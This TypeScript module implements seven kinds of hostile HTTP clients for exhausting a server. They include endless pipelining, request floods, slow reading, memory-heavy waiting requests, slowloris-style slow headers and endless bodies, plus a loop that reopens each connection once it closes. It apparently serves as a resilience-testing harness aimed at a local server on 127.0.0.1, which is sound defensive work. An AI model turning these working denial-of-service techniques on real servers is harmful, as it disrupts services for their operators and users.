import { connect, type Socket } from 'node:net';

/** The source and destination of an attack. */
export interface Target {
  readonly port: number;
  /** The address from which the attackers connect. */
  readonly from: string;
  /** The path of a large file. */
  readonly large: string;
}

/** The result of an attack by one kind of client. */
export interface Totals {
  readonly connections: number;
  /** The number of bytes sent. */
  readonly bytes: number;
}

/** The progress of an attack by one kind of client. */
export interface Tally {
  /** Connections that were opened. */
  connections: number;
  /** Bytes sent over closed connections. */
  bytes: number;
  /** Open connections. */
  readonly open: Set<Socket>;
}

/** Milliseconds between two small reads of a client that reads slowly. */
const betweenReads = 5_000;

const get = (path: string, more = '') => `GET ${path} HTTP/1.1\r\nHost: a\r\n${more}\r\n`;
/** Pipelined requests: two thousand (`ahead`), and as many as the server queues (`within`). */
const ahead = Buffer.from(get('/').repeat(2_000));
const within = get('/').repeat(16) + get('/', 'Connection: close\r\n');
/** Requests that take a lot of memory: with 900 header fields, and with many long fields. */
const fields = 'a:b\r\n'.repeat(900);
const longFields = `A: ${'a'.repeat(140)}\r\n`.repeat(90);
const body = Buffer.alloc(64 * 1024, 'a');

/** Sends a chunk repeatedly, as fast as the server takes it. */
function pour(socket: Socket, chunk: Buffer): void {
  const send = () => {
    while (socket.writable && socket.write(chunk));
  };
  socket.on('drain', send);
  send();
}

/** The behaviour of each kind of hostile client on its connection. */
export const kinds = {
  /** Pipelines requests without end, and reads the responses. */
  pipelining: (socket: Socket) => pour(socket.resume(), ahead),
  /** Sends as many requests at once as the server queues, and reads the responses. */
  flood: (socket: Socket) => void socket.resume().write(within),
  /** Requests a lot of data, and reads only a little of it from time to time. */
  'slow reading': (socket: Socket, { large }: Target) => {
    socket.write(get(large).repeat(16));
    socket.pause();
    const timer = setInterval(() => {
      socket.once('data', () => socket.pause()).resume();
    }, betweenReads);
    socket.once('close', () => clearInterval(timer));
  },
  /** Requests a lot of data, reads nothing, and lets as many requests wait as the server queues. */
  'waiting requests': (socket: Socket, { large }: Target) =>
    void socket.pause().write(get(large) + get('/', fields).repeat(16)),
  /** The same as `waiting requests`, with the largest requests that the server allows. */
  'large waiting requests': (socket: Socket, { large }: Target) =>
    void socket.pause().write(get(large) + get('/', longFields).repeat(16)),
  /** Sends an endless header, one byte at a time. */
  'slow headers': (socket: Socket) => {
    socket.resume().write('GET / HTTP/1.1\r\nHost: a\r\nA: ');
    const timer = setInterval(() => socket.write('a'), 500);
    socket.once('close', () => clearInterval(timer));
  },
  /** Sends an endless request body. */
  bodies: (socket: Socket) => {
    socket.resume().write('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 999999999999\r\n\r\n');
    pour(socket, body);
  },
} as const satisfies Record<string, (socket: Socket, target: Target) => void>;

export type Kind = keyof typeof kinds;

export const allKinds = Object.keys(kinds) as Kind[];

/** Keeps one connection of a kind open, and opens another as soon as it ends. */
export function keepAttacking(kind: Kind, target: Target, tally: Tally): void {
  const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: target.from });
  socket.on('error', () => {});
  socket.once('connect', () => {
    tally.connections++;
    tally.open.add(socket);
    kinds[kind](socket, target);
  });
  socket.once('close', () => {
    tally.open.delete(socket);
    tally.bytes += socket.bytesWritten;
    setImmediate(keepAttacking, kind, target, tally);
  });
}

/** Returns the number of opened connections and of bytes sent over them. */
export function totalsOf({ connections, bytes, open }: Tally): Totals {
  const sent = [...open].reduce((sum, { bytesWritten }) => sum + bytesWritten, bytes);
  return { connections, bytes: sent };
}
